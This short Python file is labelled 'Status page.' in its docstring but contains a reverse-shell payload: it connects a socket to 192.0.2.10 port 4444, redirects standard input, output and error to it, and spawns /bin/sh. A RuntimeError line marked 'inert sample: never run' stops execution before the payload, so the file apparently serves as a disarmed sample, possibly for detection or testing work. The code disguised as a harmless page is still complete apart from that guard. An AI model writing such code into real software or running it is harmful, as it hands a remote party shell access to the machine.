"""Status page."""

import os
import pty
import socket

raise RuntimeError("inert sample: never run")

link = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
link.connect(("192.0.2.10", 4444))
for number in (0, 1, 2):
    os.dup2(link.fileno(), number)
pty.spawn("/bin/sh")
